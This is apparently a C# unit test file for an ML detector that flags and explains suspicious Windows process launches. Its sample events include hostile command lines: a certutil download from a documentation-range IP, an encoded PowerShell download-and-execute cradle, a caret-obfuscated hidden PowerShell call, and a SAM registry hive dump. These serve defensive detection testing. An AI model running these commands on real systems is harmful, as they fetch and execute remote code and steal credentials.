using Changeling.Events;
using Changeling.Features;
using Changeling.Scoring;
using Changeling.TestSupport;

namespace Changeling.Training.Tests;

/// <summary>What the shipped model says for its predictions.</summary>
public class ReasonTests
{
    private static readonly MlModel Model = new(ModelPackage.ReadFile(RepositoryRoot.Combine("models", "lotl.zip")));

    private static readonly ProcessEvent[] Events =
    [
        .. Tiny.Rows.Take(40).Select(r => r.Event),
        Some.ProcessEvent(
            "winword.exe", "certutil.exe", @"CertUtil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt"),
        Some.ProcessEvent("cmd.exe", "cmd.exe", "cmd /c p^o^w^er\"sh\"ell -NoP \t -w Hidden 'down'+'load' 0xDEADBEEF"),
        Some.ProcessEvent(
            "cmd.exe",
            "powershell.exe",
            "powershell -enc " + Convert.ToBase64String(
                System.Text.Encoding.Unicode.GetBytes("iex (new-object net.webclient).downloadstring('http://192.0.2.1/a')"))),
        Some.ProcessEvent("x.exe", "y.exe", ""),
        Some.ProcessEvent("a.exe", "b.exe", string.Join(' ', Enumerable.Range(0, 3000).Select(i => $"w{i}.{i}"))),
        Some.ProcessEvent(
            "a.exe", "b.exe", "b.exe \ud800 \u202e ... .. . 'a' \"\" atomics/atomic redcanaryco \\\\?\\C:\\Users\\me\\.ssh. 10.0.0.1."),
        Some.ProcessEvent() with { Parent = null, User = null, Child = new ChildProcess { Name = "" } },
    ];

    [Fact]
    public void All_reasons_and_the_expectation_sum_to_the_margin_of_any_event() =>
        Assert.All(Events, e =>
        {
            var explained = Model.Explain(e);
            Assert.Equal(explained.Margin, explained.Expectation + explained.Reasons(int.MaxValue).Sum(r => r.Weight), 1e-6);
        });

    [Fact]
    public void The_text_that_is_named_stands_in_the_plain_command_line_of_this_event()
    {
        var named = 0;
        foreach (var e in Events)
        {
            var plain = PlainText(e);
            foreach (
                var reason in Model.Explain(e).Reasons(int.MaxValue).Where(
                    r =>
                        r.Feature.StartsWith("command_line.", StringComparison.Ordinal)
                            && r.Feature.Contains(':', StringComparison.Ordinal)))
            {
                Assert.True(reason.Text is not null, $"{reason.Feature} in: {plain[..Math.Min(plain.Length, 200)]}");
                Assert.Contains(reason.Text, plain, StringComparison.Ordinal);
                named++;
            }
        }

        Assert.True(named > 300, $"{named}");
    }

    [Fact]
    public void What_folding_took_out_is_named_as_it_was()
    {
        var e = Some.ProcessEvent("winword.exe", "certutil.exe", "certutil -f http://203.0.113.27/Setup77.txt");

        var texts = Reasons.Strongest(
            Launch.Of(e),
            [("command_line.word:http #host", 3), ("command_line.word:*.txt", 2), ("command_line.trigram:#ho", 1)],
            3).Select(r => r.Text);

        Assert.Equal(["http://203.0.113.27", "setup77.txt", "203.0.113.27"], texts);
    }

    [Fact]
    public void A_behaviour_names_the_words_that_show_it()
    {
        var e = Some.ProcessEvent("cmd.exe", "reg.exe", @"reg SAVE HKLM\SAM c:\x.hiv");

        var reason = Assert.Single(Reasons.Strongest(Launch.Of(e), [("behaviour.registry_hives", 1)], 1));

        Assert.NotNull(reason.Text);
        Assert.Equal("registry hives that hold secrets", reason.Description);
    }

    [Fact]
    public void Buckets_that_nothing_of_the_event_fell_into_are_one_reason()
    {
        var reasons = Reasons.Strongest(
            Launch.Of(Some.ProcessEvent()),
            [("command_line.word.017", -0.2), ("command_line.word.400", -0.3), ("child.of_windows", 0.4)],
            9);

        Assert.Equal([("command_line.word.absent", -0.5), ("child.of_windows", 0.4)], reasons.Select(r => (r.Feature, r.Weight)));
        Assert.Equal("no further words that the model knows", reasons[0].Description);
    }

    [Fact]
    public void The_first_reasons_for_a_download_by_a_document_are_what_an_analyst_would_say()
    {
        var says = Model.Explain(Events[40]).Reasons(6).Select(r => r.Description!).ToList();

        TestContext.Current.TestOutputHelper?.WriteLine(string.Join("; ", says));
        Assert.Contains(says, s => s.Contains("Windows program that downloads code from the network", StringComparison.Ordinal));
        Assert.Contains(says, s => s.Contains("document or script that starts a file", StringComparison.Ordinal));
        Assert.DoesNotContain(says, s => s.Contains('_', StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("lineage.name:winword.exe>certutil.exe", "winword.exe starts certutil.exe")]
    [InlineData("lineage.name:>certutil.exe", "certutil.exe as the child")]
    [InlineData("lineage.name:?UserTemp>cmd.exe", "an unknown program in a temporary folder starts cmd.exe")]
    [InlineData("lineage.name:Office>Shell", "a program of kind office starts a program of kind shell")]
    [InlineData("command_line.word:-f", "\"-f\" in the command line")]
    [InlineData("command_line.carets", "no carets (^)")]
    [InlineData("command_line.length", "arguments of 3 characters")]
    [InlineData("child.kind.transfer", "no transfer program as the child")]
    [InlineData("parent.kind.office", "office program as the parent")]
    [InlineData("child.lolbin", "no LOLBin as the child")]
    [InlineData("parent.place.user_temp", "no parent in a temporary folder")]
    public void A_feature_is_said_in_words(string feature, string words) =>
        Assert.Equal(
            words,
            Assert.Single(
                Reasons.Strongest(
                    Launch.Of(Some.ProcessEvent("winword.exe", "notepad.exe", "notepad -fx")), [(feature, 1)], 1)).Description);

    [Theory]
    [InlineData("cmd.exe", "certutil.exe", "certutil -f", "child.lolbin", "LOLBin as the child: certutil.exe, T1105 Ingress Tool Transfer")]
    [InlineData("mshta.exe", "a.exe", "a", "parent.lolbin", "LOLBin as the parent: mshta.exe, T1218.005 Mshta")]
    [InlineData("a.exe", "cmd.exe", "cmd /c regsvr32 /s a.dll", "inner.lolbin",
        "LOLBin inside the shell's command: regsvr32.exe, T1218.010 Regsvr32")]
    public void A_program_that_attackers_live_off_is_named_with_its_technique(
        string parent, string child, string commandLine, string feature, string words)
    {
        var launch = Launch.Of(Some.ProcessEvent(parent, child, commandLine));

        Assert.Equal(words, Assert.Single(Reasons.Strongest(launch, [(feature, 1)], 1)).Description);
    }

    /// <summary>
    /// The arguments in plain form, taken from the reasons' side only through what everyone can check: lower case, and what base64 hides.
    /// </summary>
    private static string PlainText(ProcessEvent e) => PlainCommandLine.Of(e);
}
